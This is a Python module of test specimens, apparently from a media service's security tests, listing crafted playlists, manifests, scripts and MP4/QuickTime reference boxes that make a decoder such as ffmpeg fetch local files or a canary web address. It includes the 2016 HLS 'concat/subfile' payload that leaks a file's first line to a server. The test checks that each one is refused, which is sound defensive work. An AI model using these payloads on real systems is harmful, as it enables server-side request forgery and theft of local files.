"""Files that point elsewhere: whoever follows them reads what the sender has no right to."""

from __future__ import annotations

import struct
from collections.abc import Mapping
from types import MappingProxyType

from tests.corpus.boxes import box, replaced
from tests.corpus.specimen import (
    MISSING,
    SUCCESS,
    UNREADABLE,
    UNSUPPORTED,
    Attack,
    Material,
    text,
)

_HLS = "#EXTM3U\n#EXT-X-TARGETDURATION:2\n{head}#EXTINF:2,\n{link}\n#EXT-X-ENDLIST\n"
_DASH = (
    '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"'
    ' mediaPresentationDuration="PT2S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011">'
    '<Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1">'
    "<BaseURL>{link}</BaseURL></Representation></AdaptationSet></Period></MPD>"
)
_SDP = "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=-\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\n"
_IMF = (
    '<?xml version="1.0"?><CompositionPlaylist'
    ' xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Id>urn:uuid:1</Id>'
    "<EditRate>25 1</EditRate><SegmentList><Segment><Resource>{canary}/track.mxf</Resource>"
    "</Segment></SegmentList></CompositionPlaylist>"
)


def _data_elsewhere(kind: bytes, address: str) -> bytes:
    """Return an entry of ``dref``: the samples lie elsewhere (ISO/IEC 14496-12, 8.7.2)."""
    return box(kind, struct.pack(">I", 0) + address.encode() + b"\0")


def samples_in_another_file(material: Material) -> bytes:
    entry = _data_elsewhere(b"url ", f"file://{material.film}")
    return replaced(material.film.read_bytes(), b"url ", entry)


def samples_at_an_address(material: Material) -> bytes:
    entry = _data_elsewhere(b"url ", f"{material.canary}/samples.mp4")
    return replaced(material.film.read_bytes(), b"url ", entry)


def samples_behind_an_alias(material: Material) -> bytes:
    """A Macintosh alias whose absolute path (record 18) is that of another film."""
    path = f"{material.film}".encode()
    record = bytes(150)
    named = struct.pack(">HH", 18, len(path)) + path + b"\0" * (len(path) % 2)
    entry = box(b"alis", struct.pack(">I", 0) + record + named + struct.pack(">HH", 0xFFFF, 0))
    return replaced(material.film.read_bytes(), b"url ", entry)


def reference_movie(material: Material) -> bytes:
    """QuickTime's movie without samples, which names another to be played in its place."""
    address = f"{material.canary}/movie.mov".encode() + b"\0"
    reference = b"\0\0\0\0url " + struct.pack(">I", len(address)) + address
    link = box(b"rmra", box(b"rmda", box(b"rdrf", reference)))
    return box(b"ftyp", b"qt  \0\0\0\0qt  ") + box(b"moov", link)


def _attack(template: str, **parts: str) -> Attack:
    for name, part in parts.items():
        template = template.replace(f"{{{name}}}", part)
    return Attack(text(template), _REFUSED, _REFUSED)


#: Which of the two it is depends on whether ffmpeg recognises it before the whitelist is asked.
_REFUSED = f"{UNSUPPORTED}|{UNREADABLE}"
#: Samples are looked for in the file itself, where they happen to be, too.
_ITS_OWN = f"{SUCCESS}|{UNREADABLE}"
_KEY = '#EXT-X-KEY:METHOD=AES-128,URI="{canary}/key"\n'
#: The attack of 2016 that sent a file's first line to a server.
_STITCHED = "concat:{canary}/header.m3u8|subfile,,start,0,end,99,,:{film}"

POINTERS: Mapping[str, Attack] = MappingProxyType(
    {
        "a playlist of a local film": _attack(_HLS, head="", link="{film}"),
        "a playlist of a file address": _attack(_HLS, head="", link="file://{film}"),
        "a playlist of a web address": _attack(_HLS, head="", link="{canary}/segment.ts"),
        "a playlist with a key": _attack(_HLS, head=_KEY, link="{film}"),
        "a playlist that stitches": _attack(_HLS, head="", link=_STITCHED),
        "a playlist of playlists": _attack(
            "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{canary}/inner.m3u8\n"
        ),
        "a script of a local film": _attack("ffconcat version 1.0\nfile film.mp4\n"),
        "a script of an absolute path": _attack("ffconcat version 1.0\nfile '{film}'\n"),
        "a script of a web address": _attack("ffconcat version 1.0\nfile '{canary}/a.mp4'\n"),
        "a manifest of a local film": _attack(_DASH, link="{film}"),
        "a manifest of a web address": _attack(_DASH, link="{canary}/init.mp4"),
        "a session description": _attack(_SDP),
        "a composition playlist": _attack(_IMF),
        "a shortcut": _attack("[InternetShortcut]\nURL={canary}/\n"),
        "a list of songs": _attack("[playlist]\nFile1={canary}/song.mp3\nNumberOfEntries=1\n"),
        "a metafile": _attack('<asx version="3"><entry><ref href="{canary}/a"/></entry></asx>'),
        "a page of words": _attack("RTSPtextRTSP://127.0.0.1/\r\n"),
        "a drawing with a link": _attack(
            '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">'
            '<image href="{canary}/a.png" width="64" height="64"/></svg>'
        ),
        "samples in another file": Attack(samples_in_another_file, _ITS_OWN, MISSING),
        "samples at an address": Attack(samples_at_an_address, _ITS_OWN, MISSING),
        "samples behind an alias": Attack(samples_behind_an_alias, _ITS_OWN, MISSING),
        "a reference movie": Attack(reference_movie, MISSING, MISSING),
    }
)
